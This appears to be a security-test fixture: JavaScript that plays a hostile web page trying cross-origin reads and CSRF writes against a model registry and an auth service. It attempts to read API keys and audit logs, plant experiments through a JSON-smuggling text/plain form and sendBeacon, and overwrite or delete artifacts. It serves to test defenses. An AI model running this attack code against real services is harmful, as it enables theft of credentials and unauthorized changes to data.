// What a hostile page tries; it runs inside of the page. Answers what could be read, and what was loaded.

/** `targets` are the base URLs by which the page reaches the registry and the auth service. */
export async function attack({ registry, auth, artifacts }) {
  const read = [];
  const note = async (what, asking) => {
    try {
      const answer = await asking;
      if (answer.type !== "opaque") read.push(`${what}: ${answer.status} ${await answer.text()}`);
    } catch {
      // Kept from the page by the browser, as it should be.
    }
  };
  const json = { "content-type": "application/json" };
  const create = `${registry}/api/2.0/mlflow/experiments/create`;
  const planted = JSON.stringify({ name: "planted" });
  const gets = [`${registry}/api/2.0/mlflow/experiments/search?max_results=10`, `${registry}/ajax-api/2.0/mlflow/runs/search`, `${registry}${artifacts}/script.js`, `${registry}/metrics`, `${registry}/api/audit`, `${auth}/api/v1/keys`, `${auth}/api/v1/audit`, `${auth}/metrics`];
  for (const url of gets) {
    for (const mode of ["cors", "no-cors"]) await note(`GET ${url}`, fetch(url, { mode, credentials: "include" }));
  }
  const writes = [
    ["POST", create, planted],
    ["POST", `${registry}/api/2.0/mlflow/registered-models/create`, planted],
    ["PUT", `${registry}${artifacts}/script.js`, "overwritten"],
    ["DELETE", `${registry}${artifacts}/script.js`, undefined],
    ["POST", `${auth}/api/v1/keys`, planted],
    ["POST", `${auth}/api/v1/keys/validate`, "{}"],
  ];
  for (const [method, url, body] of writes) {
    await note(`${method} ${url}`, fetch(url, { method, body, headers: json, credentials: "include" }));
    // Without a preflight.
    if (method === "POST") {
      await note(`simple ${method} ${url}`, fetch(url, { method, body, mode: "no-cors", credentials: "include" }));
      navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }));
    }
  }
  await submit(create);
  const script = await loaded("script", `${registry}${artifacts}/script.js`);
  const image = await loaded("img", `${registry}${artifacts}/pixel.png`);
  const frame = await framed(`${registry}/api/2.0/mlflow/experiments/search?max_results=10`);
  return { read, script, image, frame, stolen: window.stolen ?? null };

  /** A form whose text is JSON: `{"name": "planted", "x": "="}`. */
  async function submit(action) {
    const frame = document.createElement("iframe");
    frame.name = "sink";
    const form = Object.assign(document.createElement("form"), { method: "POST", action, enctype: "text/plain", target: "sink" });
    form.append(Object.assign(document.createElement("input"), { name: '{"name": "planted", "x": "', value: '"}' }));
    document.body.append(frame, form);
    const done = new Promise((resolve) => frame.addEventListener("load", resolve));
    form.submit();
    await done;
  }

  function loaded(tag, src) {
    return new Promise((resolve) => {
      const element = Object.assign(document.createElement(tag), { src, onload: () => resolve(true), onerror: () => resolve(false) });
      document.body.append(element);
    });
  }

  async function framed(src) {
    const frame = Object.assign(document.createElement("iframe"), { src });
    const done = new Promise((resolve) => frame.addEventListener("load", resolve));
    document.body.append(frame);
    await done;
    try {
      return frame.contentDocument?.body?.innerText ?? null;
    } catch {
      return null;
    }
  }
}
